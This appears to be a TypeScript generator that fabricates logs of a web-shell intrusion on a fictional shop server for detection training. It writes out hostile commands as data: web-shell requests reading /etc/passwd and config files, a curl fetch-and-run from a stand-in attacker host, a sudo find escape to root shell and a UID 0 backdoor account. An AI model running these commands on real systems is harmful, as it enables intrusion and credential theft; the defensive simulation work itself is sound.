import { pathToFileURL } from "node:url";
import { type Chance, openChance } from "../../src/redteam/records/chance.ts";
import { jsonLines, type Log, openRecording, type Recording, type ScenarioFile, textLines } from "../../src/redteam/records/recording.ts";
import { alertRecord } from "../../src/redteam/records/suricata.ts";
import { bsdLine } from "../../src/redteam/records/syslog.ts";
import { type Day, dayOf, hourMs, isoOf, minuteMs, secondMs } from "../../src/redteam/records/time.ts";
import { type ZeekRecord, zeekJson } from "../../src/redteam/records/zeek.ts";
import { assemble, type InventoryFile, type Scenario } from "../kit/assemble.ts";
import { runGenerator } from "../kit/command.ts";
import { stories } from "./story.ts";

const date = "2026-06-03";
const server = "10.20.5.40";
const stranger = "198.51.100.90";
const listener = "203.0.113.99";
const scannerAgent = "Mozilla/5.0 (compatible; dirwalk/1.4)";
const browserAgent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const ordinaryVisits = 1_100;

type Stage = {
  readonly day: Day;
  readonly chance: Chance;
  readonly access: Log<string>;
  readonly auth: Log<string>;
  readonly conn: Log<ZeekRecord>;
  readonly eve: Log<object>;
  readonly marked: Recording["marked"];
};

/** A day of a web server: somebody searches it, finds an upload, leaves a script and works through it. */
export function playWebShell(seed: number): Scenario {
  const day = dayOf(date);
  const chance = openChance(`web-shell ${seed}`);
  const recording = openRecording();
  const stage: Stage = {
    day,
    chance,
    access: recording.log("linux/shop01-access.log", textLines),
    auth: recording.log("linux/shop01-auth.log", textLines),
    conn: recording.log("zeek/conn.log", zeekJson("conn")),
    eve: recording.log("suricata/eve.json", jsonLines),
    marked: recording.marked,
  };
  serve(stage);
  intrude(stage, day.at("13:20:00") + chance.integer(-600, 600) * secondMs);
  return assemble({ name: "web-shell", seed, played: recording.close(), stories, endMs: day.endMs, inventory });
}

type Hit = {
  readonly address: string;
  readonly method?: string;
  readonly path: string;
  readonly status: number;
  readonly bytes: number;
  readonly agent: string;
};

function hit(
  { access, conn, chance }: Stage,
  timeMs: number,
  { address, method = "GET", path, status, bytes, agent }: Hit,
  isOnWire = false,
): void {
  const [day, month, year] = new Date(timeMs).toUTCString().slice(5, 16).split(" ");
  const when = `${day}/${month}/${year}:${isoOf(timeMs).slice(11, 19)} +0000`;
  access.add(timeMs, `${address} - - [${when}] "${method} ${path} HTTP/1.1" ${status} ${bytes} "-" "${agent}"`);
  if (isOnWire) conn.add(timeMs - 20, flow(chance, { from: address, to: server, port: 443, seconds: 0.4, out: 900, back: bytes }));
}

function flow(chance: Chance, carried: { from: string; to: string; port: number; seconds: number; out: number; back: number }): ZeekRecord {
  const { from, to, port, seconds, out, back } = carried;
  return {
    uid: `C${chance.word(17)}`,
    "id.orig_h": from,
    "id.orig_p": chance.integer(32_768, 60_999),
    "id.resp_h": to,
    "id.resp_p": port,
    proto: "tcp",
    ...(port === 443 ? { service: "ssl" } : {}),
    duration: seconds,
    orig_bytes: out,
    resp_bytes: back,
    conn_state: "SF",
    local_orig: from.startsWith("10."),
    local_resp: to.startsWith("10."),
    missed_bytes: 0,
    history: "ShADadFf",
    orig_pkts: Math.ceil(out / 1_380) + 3,
    orig_ip_bytes: out + 200,
    resp_pkts: Math.ceil(back / 1_380) + 3,
    resp_ip_bytes: back + 200,
  };
}

const pages = [
  "/",
  "/catalogue",
  "/catalogue/ab-200",
  "/basket",
  "/account",
  "/css/shop.css",
  "/img/ab-200.webp",
  "/uploads/leaflet-17.pdf",
];

function serve(stage: Stage): void {
  const { day, chance, auth } = stage;
  for (let visit = 0; visit < ordinaryVisits; visit++) {
    const address = `${chance.isHit(0.5) ? "203.0.113" : "198.51.100"}.${chance.integer(120, 250)}`;
    const timeMs = day.startMs + Math.floor(chance.fraction() * 24 * hourMs);
    const status = chance.isHit(0.04) ? 404 : 200;
    hit(
      stage,
      timeMs,
      { address, path: chance.pick(pages), status, bytes: chance.integer(400, 80_000), agent: browserAgent },
      chance.isHit(0.2),
    );
  }
  // The shop's own people upload leaflets through the same page.
  for (let leaflet = 0; leaflet < 6; leaflet++)
    hit(
      stage,
      day.at("09:10") + leaflet * 37 * minuteMs,
      { address: "192.0.2.10", method: "POST", path: "/account/upload.php", status: 200, bytes: 512, agent: browserAgent },
      true,
    );
  for (let hour = 0; hour < 24; hour++)
    auth.add(
      day.startMs + hour * hourMs,
      bsdLine(day.startMs + hour * hourMs, {
        host: "shop01",
        program: "CRON",
        processId: 4_000 + hour,
        message: "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
      }),
    );
}

const guesses = [
  "/admin/",
  "/backup.zip",
  "/.git/HEAD",
  "/phpinfo.php",
  "/upload/",
  "/uploads/",
  "/account/upload.php",
  "/old/",
  "/test/",
  "/wp-login.php",
  "/config.bak",
  "/db.sql",
  "/server-status",
  "/cgi-bin/",
  "/.env",
];
const commands = [
  "id",
  "uname%20-a",
  "cat%20/etc/passwd",
  "ls%20-la%20/srv/shop",
  "ps%20aux",
  "cat%20/srv/shop/config.php",
  "curl%20http://203.0.113.99/k%20-o%20/tmp/.k",
  "sh%20/tmp/.k",
];

function intrude(stage: Stage, startMs: number): void {
  const { chance, marked, conn } = stage;
  const uploadMs = startMs + 9 * minuteMs;
  const callMs = uploadMs + 8 * minuteMs;
  const call = { from: server, to: listener, port: 4_444, seconds: 1_900, out: 412_000, back: 61_000 };
  marked("shell", "searched", () => search(stage, startMs));
  marked("shell", "left", () => leave(stage, uploadMs));
  marked("shell", "commanded", () => command(stage, uploadMs + 90 * secondMs));
  marked("shell", "called-back", () => conn.add(callMs, flow(chance, call)));
  marked("shell", "rights-taken", () => takeRights(stage, callMs + 4 * minuteMs));
}

function search(stage: Stage, startMs: number): void {
  for (let guess = 0; guess < 300; guess++) {
    const path = guesses[guess] ?? `/${stage.chance.word(6, "abcdefghijklmnopqrstuvwxyz")}/`;
    const isThere = path.endsWith("upload.php");
    const answer = isThere ? { status: 200, bytes: 2_100 } : { status: 404, bytes: 153 };
    hit(stage, startMs + guess * 210, { address: stranger, agent: scannerAgent, path, ...answer });
  }
  warn(stage, startMs + 20 * secondMs, {
    signatureId: 9_000_501,
    signature: "SCAN Many missing pages asked by one source",
    category: "Attempted Information Leak",
    severity: 3,
  });
}

function leave(stage: Stage, timeMs: number): void {
  const upload = { address: stranger, agent: browserAgent, method: "POST", path: "/account/upload.php", status: 200, bytes: 512 };
  hit(stage, timeMs, upload, true);
  warn(stage, timeMs + 300, {
    signatureId: 9_000_502,
    signature: "WEB Script uploaded in a form for pictures",
    category: "Web Application Attack",
    severity: 1,
  });
}

function command(stage: Stage, startMs: number): void {
  for (const [index, text] of commands.entries()) {
    const path = `/uploads/avatar-81.php?cmd=${text}`;
    const asked = { address: stranger, agent: browserAgent, path, status: 200, bytes: 300 + index * 800 };
    hit(stage, startMs + index * 41 * secondMs, asked, true);
  }
}

function takeRights({ auth }: Stage, timeMs: number): void {
  const raised = "www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ;";
  auth.add(timeMs, bsdLine(timeMs, { host: "shop01", program: "sudo", message: raised }));
  const added = "new user: name=shopsvc, UID=0, GID=0, home=/var/tmp, shell=/bin/bash, from=none";
  auth.add(timeMs + 2 * minuteMs, bsdLine(timeMs + 2 * minuteMs, { host: "shop01", program: "useradd", processId: 7_110, message: added }));
}

function warn(
  { eve, chance }: Stage,
  timeMs: number,
  rule: { signatureId: number; signature: string; category: string; severity: 1 | 2 | 3 },
): void {
  const ends = { source: stranger, sourcePort: 51_877, target: server, targetPort: 443, protocol: "TCP", appProtocol: "http" } as const;
  eve.add(timeMs, alertRecord(timeMs, { ...ends, ...rule }, chance));
}

const inventory: InventoryFile = {
  assets: [{ name: "shop01", addresses: [server, "192.0.2.31"], criticality: "high", role: "server", service: "shop" }],
  "own-domains": ["alderbrook.example"],
  "own-addresses": ["10.20.0.0/16", "192.0.2.0/26"],
};

export function generateWebShell(seed: number): readonly ScenarioFile[] {
  return playWebShell(seed).files;
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) runGenerator(generateWebShell);
